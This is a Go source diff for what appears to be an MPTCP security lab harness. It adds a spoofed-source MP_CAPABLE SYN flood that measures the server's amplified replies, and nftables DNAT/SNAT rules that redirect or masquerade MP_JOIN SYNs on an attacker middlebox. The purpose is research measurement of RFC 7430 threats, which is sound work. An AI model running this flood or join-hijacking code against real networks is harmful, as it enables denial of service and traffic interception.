@@ -23,6 +23,20 @@
 //     5's residual threat) reads both keys from the client's MP_CAPABLE
 //     third ACK and injects ADD_ADDRs announcing its own address with the
 //     correct HMAC: what the keys in clear allow.
+//   - syn-flood: SYN flood amplification (RFC 7430 sec. 4): MP_CAPABLE
+//     SYNs from spoofed random sources at the server's port; the attacker,
+//     on the server's path, counts what the server sends back to those
+//     sources (packets, bytes, SYN/ACKs, and any other MPTCP signal such
+//     as an ADD_ADDR or a join), the amplification being out/in.
+//   - join-redirect: SYN/JOIN address substitution, destination: a
+//     middlebox (the attacker node, forwarding the joins) rewrites the
+//     destination of every MP_JOIN SYN toward the target to its own
+//     address, where an MPTCP listener on the same port is "another peer"
+//     (nftables DNAT matching the MP_JOIN option; conntrack carries the
+//     rest of that subflow).
+//   - join-masquerade: the same with the source: every MP_JOIN SYN toward
+//     the target leaves the middlebox from the middlebox's own address
+//     (SNAT), so the join appears to come from another host.
 //   - none: nothing is sent (the baseline; the genuine-connection prober
 //     runs in every kind).
 //
@@ -56,6 +70,7 @@ import (
 
 	"github.com/google/nftables"
 	"github.com/google/nftables/expr"
+	"github.com/vishvananda/netlink"
 	"golang.org/x/net/ipv4"
 	"golang.org/x/sys/unix"
 
@@ -70,10 +85,20 @@ const (
 	AddAddr    = "add-addr"
 	RemoveAddr = "remove-addr"
 	StolenKeys = "stolen-keys"
+	SYNFlood   = "syn-flood"
+	// SYN/JOIN address substitution.
+	JoinRedirect   = "join-redirect"
+	JoinMasquerade = "join-masquerade"
 )
 
+// floodSources is where the floods' spoofed sources come from (RFC 2544's
+// benchmarking range, routed nowhere in the lab).
+var floodSources = netip.MustParsePrefix("198.18.0.0/16")
+
 // Kinds lists every kind.
-func Kinds() []string { return []string{None, JoinFlood, JoinHMAC, AddAddr, RemoveAddr, StolenKeys} }
+func Kinds() []string {
+	return []string{None, JoinFlood, JoinHMAC, AddAddr, RemoveAddr, StolenKeys, SYNFlood, JoinRedirect, JoinMasquerade}
+}
 
 // Lab is what an attack needs of the lab.
 type Lab interface {
@@ -101,11 +126,22 @@ type Config struct {
 	// are cached per server address and port). Floods go to both ports.
 	ProbeRate int
 	ProbePort uint16
+	// Count, if positive, stops the attack after that many packets (e.g.
+	// one SYN: what a single SYN makes the server send).
+	Count int
+	// PlainSYN makes syn-flood send plain TCP SYNs (no MP_CAPABLE): the
+	// TCP baseline of the amplification.
+	PlainSYN bool
 }
 
 // counters are the MPTcpExt fields reported (delta over the trial).
-var serverCounters = []string{"MPJoinSynRx", "MPJoinNoTokenFound", "MPJoinAckRx", "MPJoinAckHMacFailure", "MPJoinRejected", "MPCapableSYNRX"}
-var clientCounters = []string{"AddAddr", "AddAddrDrop", "EchoAdd", "EchoAddTx", "RmAddr", "RmAddrDrop", "RmSubflow", "MPJoinSynTx"}
+var serverCounters = []string{"MPJoinSynRx", "MPJoinNoTokenFound", "MPJoinAckRx", "MPJoinAckHMacFailure", "MPJoinRejected", "MPCapableSYNRX",
+	"MPCapableACKRX", "AddAddrTx", "MPJoinSynTx", "TcpExt.SyncookiesSent", "TcpExt.TCPReqQFullDrop", "TcpExt.ListenDrops"}
+var clientCounters = []string{"AddAddr", "AddAddrDrop", "EchoAdd", "EchoAddTx", "RmAddr", "RmAddrDrop", "RmSubflow", "MPJoinSynTx", "MPJoinSynAckRx"}
+
+// attackerCounters are read in the attacker node for the substitution
+// kinds, whose "other peer" is a listener there.
+var attackerCounters = []string{"MPJoinSynRx", "MPJoinNoTokenFound", "MPJoinAckRx"}
 
 // Run is a started attack.
 type Run struct {
@@ -116,12 +152,16 @@ type Run struct {
 	before map[string]uint64
 
 	sent, injected, sniffed, tokens, synacks atomic.Uint64
-	controls                                 atomic.Uint64
-	probes, probeOK, probeMPTCP              atomic.Uint64
-	errMu                                    sync.Mutex
-	err                                      error
-	cleanup                                  []func()
-	started                                  time.Time
+	// syn-flood: bytes sent; what the server sent to the spoofed sources
+	// (packets, bytes, RSTs, segments with an MP_CAPABLE holding its key,
+	// segments with any other MPTCP option).
+	inBytes, outPkts, outBytes, outRST, outCapable, outOther atomic.Uint64
+	controls                                                 atomic.Uint64
+	probes, probeOK, probeMPTCP                              atomic.Uint64
+	errMu                                                    sync.Mutex
+	err                                                      error
+	cleanup                                                  []func()
+	started                                                  time.Time
 }
 
 // Start begins the attack and the prober; Stop ends them.
@@ -201,6 +241,14 @@ func (r *Run) Stop() (map[string]float64, error) {
 	for k, v := range after {
 		m[k] = float64(v - r.before[k])
 	}
+	if r.cfg.Kind == SYNFlood {
+		m["attack.in_bytes"] = float64(r.inBytes.Load())
+		m["attack.out_pkts"] = float64(r.outPkts.Load())
+		m["attack.out_bytes"] = float64(r.outBytes.Load())
+		m["attack.out_rst"] = float64(r.outRST.Load())
+		m["attack.out_capable"] = float64(r.outCapable.Load())
+		m["attack.out_other_mptcp"] = float64(r.outOther.Load())
+	}
 	r.errMu.Lock()
 	defer r.errMu.Unlock()
 	return m, r.err
@@ -212,13 +260,22 @@ func (r *Run) counters() (map[string]uint64, error) {
 	for _, side := range []struct {
 		node, prefix string
 		keys         []string
-	}{{r.cfg.Server, "server.", serverCounters}, {r.cfg.Client, "client.", clientCounters}} {
-		var mib map[string]uint64
+	}{{r.cfg.Server, "server.", serverCounters}, {r.cfg.Client, "client.", clientCounters}, {r.cfg.Attacker, "attacker.", attackerCounters}} {
+		if side.prefix == "attacker." && r.cfg.Kind != JoinRedirect && r.cfg.Kind != JoinMasquerade {
+			continue
+		}
+		var mib, tcp map[string]uint64
 		err := r.lab.Do(side.node, func() error {
 			var err error
-			mib, err = readMPTcpExt("/proc/thread-self/net/netstat")
+			if mib, err = readNetstat("/proc/thread-self/net/netstat", "MPTcpExt:"); err != nil {
+				return err
+			}
+			tcp, err = readNetstat("/proc/thread-self/net/netstat", "TcpExt:")
 			return err
 		})
+		for k, v := range tcp {
+			mib["TcpExt."+k] = v
+		}
 		if err != nil {
 			return nil, fmt.Errorf("attack: MPTCP counters of %s: %w", side.node, err)
 		}
@@ -230,7 +287,11 @@ func (r *Run) counters() (map[string]uint64, error) {
 }
 
 // readMPTcpExt parses the MPTcpExt lines of a netstat file.
-func readMPTcpExt(path string) (map[string]uint64, error) {
+func readMPTcpExt(path string) (map[string]uint64, error) { return readNetstat(path, "MPTcpExt:") }
+
+// readNetstat parses the two lines of a netstat file that start with
+// prefix ("MPTcpExt:", "TcpExt:"): names, then values.
+func readNetstat(path, prefix string) (map[string]uint64, error) {
 	f, err := os.Open(path)
 	if err != nil {
 		return nil, err
@@ -241,7 +302,7 @@ func readMPTcpExt(path string) (map[string]uint64, error) {
 	var names []string
 	for sc.Scan() {
 		fs := strings.Fields(sc.Text())
-		if len(fs) == 0 || fs[0] != "MPTcpExt:" {
+		if len(fs) == 0 || fs[0] != prefix {
 			continue
 		}
 		if names == nil {
@@ -259,7 +320,7 @@ func readMPTcpExt(path string) (map[string]uint64, error) {
 	if err := sc.Err(); err != nil {
 		return nil, err
 	}
-	return nil, errors.New("no MPTcpExt counters (kernel without MPTCP?)")
+	return nil, fmt.Errorf("no %s counters (kernel without MPTCP?)", strings.TrimSuffix(prefix, ":"))
 }
 
 func random32() uint32 {
@@ -278,15 +339,21 @@ func random64() uint64 {
 type sender struct{ c *ipv4.RawConn }
 
 func (s sender) send(seg *mptcpwire.Segment) error {
+	_, err := s.sendLen(seg)
+	return err
+}
+
+// sendLen sends seg and returns its IP length.
+func (s sender) sendLen(seg *mptcpwire.Segment) (int, error) {
 	b, err := seg.Marshal()
 	if err != nil {
-		return err
+		return 0, err
 	}
 	h, err := ipv4.ParseHeader(b[:20])
 	if err != nil {
-		return err
+		return 0, err
 	}
-	return s.c.WriteTo(h, b[20:], nil)
+	return len(b), s.c.WriteTo(h, b[20:], nil)
 }
 
 func (r *Run) openSender() (sender, error) {
@@ -410,7 +477,7 @@ func (r *Run) startAttack(ctx context.Context) error {
 		}
 		r.wg.Add(1)
 		go r.paced(ctx, func() error {
-			src := netip.AddrFrom4([4]byte{198, 18, byte(random32()), byte(1 + random32()%254)})
+			src := randomFloodSource()
 			port := r.cfg.Target.Port()
 			if r.cfg.ProbeRate > 0 && random32()%2 == 0 {
 				port = r.cfg.ProbePort // the prober's listener too
@@ -485,6 +552,10 @@ func (r *Run) startAttack(ctx context.Context) error {
 		return nil
 	case StolenKeys:
 		return r.startStolenKeys(ctx)
+	case SYNFlood:
+		return r.startSYNFlood(ctx)
+	case JoinRedirect, JoinMasquerade:
+		return r.startJoinSubst()
 	case AddAddr, RemoveAddr:
 		s, err := r.openSender()
 		if err != nil {
@@ -580,6 +651,9 @@ func (r *Run) paced(ctx context.Context, send func() error) {
 		case <-tick.C:
 		}
 		due := uint64(time.Since(start).Seconds() * float64(r.cfg.Rate))
+		if r.cfg.Count > 0 {
+			due = min(due, uint64(r.cfg.Count))
+		}
 		for ; done < due; done++ {
 			if err := send(); err != nil {
 				if errors.Is(err, errNothing) || errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
@@ -598,6 +672,11 @@ func (r *Run) paced(ctx context.Context, send func() error) {
 // sniff parses every TCP packet the sniffer sees and hands it to fn until
 // the socket is closed.
 func (r *Run) sniff(f *os.File, fn func(*mptcpwire.Segment)) {
+	r.sniffLen(f, func(seg *mptcpwire.Segment, _ int) { fn(seg) })
+}
+
+// sniffLen is sniff with each packet's IP length.
+func (r *Run) sniffLen(f *os.File, fn func(*mptcpwire.Segment, int)) {
 	defer r.wg.Done()
 	buf := make([]byte, 65536)
 	for {
@@ -610,7 +689,7 @@ func (r *Run) sniff(f *os.File, fn func(*mptcpwire.Segment)) {
 			continue
 		}
 		r.sniffed.Add(1)
-		fn(seg)
+		fn(seg, n)
 	}
 }
 
@@ -779,4 +858,198 @@ func AddAddrHMAC(senderKey, peerKey uint64, id uint8, addr netip.Addr, port uint
 	m.Write(msg)
 	sum := m.Sum(nil)
 	return binary.BigEndian.Uint64(sum[len(sum)-8:])
+}
+
+// startSYNFlood sends SYNs (MP_CAPABLE unless PlainSYN) from spoofed random
+// sources to the target and counts, on the attacker's tap, what the
+// target sends back to those sources.
+func (r *Run) startSYNFlood(ctx context.Context) error {
+	// The server's answers to the spoofed sources end here silently, as at
+	// an address that does not answer: without the route the attacker's
+	// kernel would send ICMP net unreachable, which makes the server drop
+	// the half-open connection (tcp_req_err) and so hides the SYN/ACK
+	// retransmissions that a real flood's victim sends.
+	dst := &net.IPNet{IP: floodSources.Addr().AsSlice(), Mask: net.CIDRMask(floodSources.Bits(), 32)}
+	if err := r.lab.Do(r.cfg.Attacker, func() error {
+		return netlink.RouteAdd(&netlink.Route{Dst: dst, Type: unix.RTN_BLACKHOLE})
+	}); err != nil {
+		return fmt.Errorf("attack: blackhole route for %s in %s: %w", floodSources, r.cfg.Attacker, err)
+	}
+	node := r.cfg.Attacker
+	r.cleanup = append(r.cleanup, func() {
+		_ = r.lab.Do(node, func() error { return netlink.RouteDel(&netlink.Route{Dst: dst, Type: unix.RTN_BLACKHOLE}) })
+	})
+	s, err := r.openSender()
+	if err != nil {
+		return err
+	}
+	sn, err := r.openSniffer()
+	if err != nil {
+		return err
+	}
+	r.wg.Add(1)
+	go r.sniffLen(sn, func(seg *mptcpwire.Segment, n int) {
+		if seg.Src != r.cfg.Target.Addr() || !floodSources.Contains(seg.Dst) {
+			return
+		}
+		r.outPkts.Add(1)
+		r.outBytes.Add(uint64(n))
+		if seg.Flags&mptcpwire.SYN != 0 && seg.Flags&mptcpwire.ACK != 0 {
+			r.synacks.Add(1)
+		}
+		if seg.Flags&mptcpwire.RST != 0 {
+			r.outRST.Add(1)
+		}
+		for _, o := range seg.Options {
+			if o.Kind != mptcpwire.OptMPTCP {
+				continue
+			}
+			if o.Subtype() == mptcpwire.MPCapable {
+				r.outCapable.Add(1)
+			} else {
+				r.outOther.Add(1)
+			}
+		}
+	})
+	r.wg.Add(1)
+	go r.paced(ctx, func() error {
+		port := r.cfg.Target.Port()
+		if r.cfg.ProbeRate > 0 && random32()%2 == 0 {
+			port = r.cfg.ProbePort // the prober's listener too
+		}
+		opts := []mptcpwire.Option{{Kind: mptcpwire.OptMSS, Data: []byte{0x05, 0xb4}}}
+		if !r.cfg.PlainSYN {
+			opts = append(opts, mptcpwire.CapableSYN())
+		}
+		n, err := s.sendLen(&mptcpwire.Segment{
+			Src: randomFloodSource(), Dst: r.cfg.Target.Addr(), ID: uint16(random32()),
+			SrcPort: uint16(1024 + random32()%60000), DstPort: port, Seq: random32(),
+			Flags: mptcpwire.SYN, Window: 64240, Options: opts,
+		})
+		if err == nil {
+			r.inBytes.Add(uint64(n))
+		}
+		return err
+	})
+	return nil
+}
+
+func randomFloodSource() netip.Addr {
+	return netip.AddrFrom4([4]byte{198, 18, byte(random32()), byte(1 + random32()%254)})
+}
+
+// startJoinSubst installs, in the attacker node, an nftables NAT rule for
+// MP_JOIN SYNs toward the target's address (tcp option 30, subtype 1; any
+// port, so the prober's joins too): DNAT to the node's own address, ports
+// unchanged, where MPTCP listeners on the target's and the prober's ports
+// accept (join-redirect), or SNAT to its own address (join-masquerade).
+// join-redirect also takes the joins addressed to the node itself (a relay
+// or waypoint there, before its own NAT) to the listener on the target's
+// port: a malicious relay sending the detour's join elsewhere.
+// Stop reads the rule's counter (attack.injected: joins rewritten) and
+// removes the table.
+func (r *Run) startJoinSubst() error {
+	own := r.lab.Addr(r.cfg.Attacker)
+	for _, port := range []uint16{r.cfg.Target.Port(), r.cfg.ProbePort} {
+		if r.cfg.Kind != JoinRedirect {
+			break
+		}
+		var ln net.Listener
+		err := r.lab.Do(r.cfg.Attacker, func() error {
+			var lc net.ListenConfig
+			lc.SetMultipathTCP(true)
+			var err error
+			ln, err = lc.Listen(context.Background(), "tcp4", netip.AddrPortFrom(own, port).String())
+			return err
+		})
+		if err != nil {
+			return fmt.Errorf("attack: the other peer's listener in %s: %w", r.cfg.Attacker, err)
+		}
+		done := make(chan struct{})
+		go func() {
+			defer close(done)
+			for {
+				c, err := ln.Accept()
+				if err != nil {
+					return
+				}
+				r.synacks.Add(1) // joins the other peer completed (none expected)
+				c.Close()
+			}
+		}()
+		r.cleanup = append(r.cleanup, func() { ln.Close(); <-done })
+	}
+	return r.lab.Do(r.cfg.Attacker, func() error {
+		c, err := nftables.New()
+		if err != nil {
+			return err
+		}
+		t := c.AddTable(&nftables.Table{Family: nftables.TableFamilyIPv4, Name: "mpdetour_attack_subst"})
+		hook, prio, typ := nftables.ChainHookPrerouting, nftables.ChainPriorityRef(*nftables.ChainPriorityNATDest-10), expr.NATTypeDestNAT
+		if r.cfg.Kind == JoinMasquerade {
+			hook, prio, typ = nftables.ChainHookPostrouting, nftables.ChainPriorityRef(*nftables.ChainPriorityNATSource-10), expr.NATTypeSourceNAT
+		}
+		ch := c.AddChain(&nftables.Chain{Name: "subst", Table: t, Type: nftables.ChainTypeNAT, Hooknum: hook, Priority: prio})
+		dst := r.cfg.Target.Addr().As4()
+		a := own.As4()
+		// match: an MP_JOIN SYN (SYN without ACK, tcp option 30 whose
+		// first data byte has subtype MP_JOIN); then count and NAT.
+		join := func(head ...expr.Any) []expr.Any {
+			return append(append([]expr.Any{
+				&expr.Meta{Key: expr.MetaKeyL4PROTO, Register: 1},
+				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{unix.IPPROTO_TCP}},
+			}, head...),
+				&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseTransportHeader, Offset: 13, Len: 1},
+				&expr.Bitwise{SourceRegister: 1, DestRegister: 1, Len: 1, Mask: []byte{mptcpwire.SYN | mptcpwire.ACK}, Xor: []byte{0}},
+				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{mptcpwire.SYN}},
+				&expr.Exthdr{Op: expr.ExthdrOpTcpopt, Type: mptcpwire.OptMPTCP, Offset: 2, Len: 1, DestRegister: 1},
+				&expr.Bitwise{SourceRegister: 1, DestRegister: 1, Len: 1, Mask: []byte{0xf0}, Xor: []byte{0}},
+				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{mptcpwire.MPJoin << 4}},
+				&expr.Counter{},
+				&expr.Immediate{Register: 1, Data: a[:]},
+			)
+		}
+		// Joins toward the target: the address rewritten, ports unchanged.
+		c.AddRule(&nftables.Rule{Table: t, Chain: ch, Exprs: append(join(
+			&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseNetworkHeader, Offset: 16, Len: 4},
+			&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: dst[:]},
+		), &expr.NAT{Type: typ, Family: unix.NFPROTO_IPV4, RegAddrMin: 1})})
+		if r.cfg.Kind == JoinRedirect {
+			// Joins addressed to this node itself (to a relay's or a
+			// waypoint's port here, before that NAT): to the other peer's
+			// listener on the target's port.
+			c.AddRule(&nftables.Rule{Table: t, Chain: ch, Exprs: append(join(
+				&expr.Fib{Register: 1, FlagDADDR: true, ResultADDRTYPE: true},
+				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: binary.NativeEndian.AppendUint32(nil, unix.RTN_LOCAL)},
+			),
+				&expr.Immediate{Register: 2, Data: binary.BigEndian.AppendUint16(nil, r.cfg.Target.Port())},
+				&expr.NAT{Type: typ, Family: unix.NFPROTO_IPV4, RegAddrMin: 1, RegProtoMin: 2, Specified: true})})
+		}
+		if err := c.Flush(); err != nil {
+			return fmt.Errorf("attack: nftables %s rule: %w", r.cfg.Kind, err)
+		}
+		node := r.cfg.Attacker
+		r.cleanup = append(r.cleanup, func() {
+			_ = r.lab.Do(node, func() error {
+				c, err := nftables.New()
+				if err != nil {
+					return err
+				}
+				if rules, err := c.GetRules(t, ch); err == nil {
+					var n uint64
+					for _, rl := range rules {
+						for _, e := range rl.Exprs {
+							if ctr, ok := e.(*expr.Counter); ok {
+								n += ctr.Packets
+							}
+						}
+					}
+					r.injected.Store(n)
+				}
+				c.DelTable(t)
+				return c.Flush()
+			})
+		})
+		return nil
+	})
 }
